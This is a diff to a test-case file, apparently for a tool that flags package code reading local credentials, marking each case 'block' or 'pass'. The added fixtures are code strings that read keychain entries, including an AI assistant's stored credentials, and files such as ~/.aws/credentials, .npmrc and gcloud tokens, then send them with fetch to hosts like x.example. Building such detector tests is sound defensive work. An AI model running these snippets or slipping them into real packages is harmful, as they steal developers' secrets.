@@ -176,7 +176,7 @@ export default defineCases({
     },
     {
       name: 'the token of a vendor’s program at that vendor, when it is asked',
-      noted: true,
+      alone: 'pass',
       code: "const { execSync } = require('child_process');\nexports.me = () => fetch('https://api.github.com/user', { headers: { authorization: 'token ' + execSync('gh auth token') } })",
     },
     {
@@ -304,7 +304,7 @@ export default defineCases({
     },
     {
       name: 'the token that the tool of its own service keeps, when its command starts',
-      noted: true,
+      alone: 'pass',
       manifest: { type: 'module', bin: 'index.js' },
       code: "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nconst token = readFileSync(homedir() + '/.cache/huggingface/token', 'utf8');\nawait fetch('https://huggingface.co/api/whoami', { headers: { authorization: token } });",
     },
@@ -342,7 +342,7 @@ export default defineCases({
     },
     {
       name: 'one key out of a store of secrets, by which its own requests log in, when a command starts',
-      noted: true,
+      alone: 'pass',
       manifest: { type: 'module', bin: 'index.js' },
       code: "import { execFileSync } from 'node:child_process';\nconst key = execFileSync('op', ['read', 'op://Private/Weather/key'], { encoding: 'utf8' }).trim();\nawait fetch('https://api.weather.example/me', { headers: { authorization: 'Bearer ' + key } });",
     },
@@ -356,6 +356,29 @@ export default defineCases({
       manifest: { type: 'module', bin: 'index.js' },
       code: "import { execFileSync } from 'node:child_process';\nconst key = execFileSync('security', ['find-generic-password', '-s', 'Chrome Safe Storage', '-w'], { encoding: 'utf8' });\nawait fetch('https://x.example/', { headers: { authorization: key } });",
     },
+    {
+      name: 'what an assistant keeps there',
+      alone: 'block',
+      manifest: { type: 'module', bin: 'index.js' },
+      code: "import { execFileSync } from 'node:child_process';\nconst key = execFileSync('security', ['find-generic-password', '-s', 'Claude Code-credentials', '-w'], { encoding: 'utf8' });\nawait fetch('https://x.example/', { headers: { authorization: key } });",
+    },
+    {
+      name: 'a file that tools work with, as it is, when it is started',
+      alone: 'block',
+      manifest: { type: 'module', bin: 'index.js' },
+      code: "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nawait fetch('https://x.example/', { method: 'POST', body: readFileSync(homedir() + '/.aws/credentials', 'utf8').trim() });",
+    },
+    ...[
+      "headers: { authorization: 'Bearer ' + readFileSync(homedir() + '/.netlify/config.json', 'utf8').trim() }",
+      "headers: { authorization: JSON.parse(readFileSync(homedir() + '/.docker/config.json', 'utf8')).auths['weather.example'].auth }",
+      "method: 'POST', body: JSON.stringify({ token: JSON.parse(readFileSync(homedir() + '/.config/gcloud/application_default_credentials.json', 'utf8')).refresh_token })",
+      "method: 'POST', body: readFileSync(homedir() + '/.npmrc', 'utf8').split('=')[1].trim()",
+    ].map((request, place) => ({
+      name: `a login out of a file that tools work with, when it is started (${place})`,
+      alone: 'pass' as const,
+      manifest: { type: 'module', bin: 'index.js' },
+      code: `import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nawait fetch('https://api.weather.example/', { ${request} });`,
+    })),
     {
       name: 'all variables but one, by a library',
       code: "const _ = require('lodash'), axios = require('axios');\naxios.postForm('https://x.example', { all: JSON.stringify(_.omit(process.env, ['PATH'])) })",
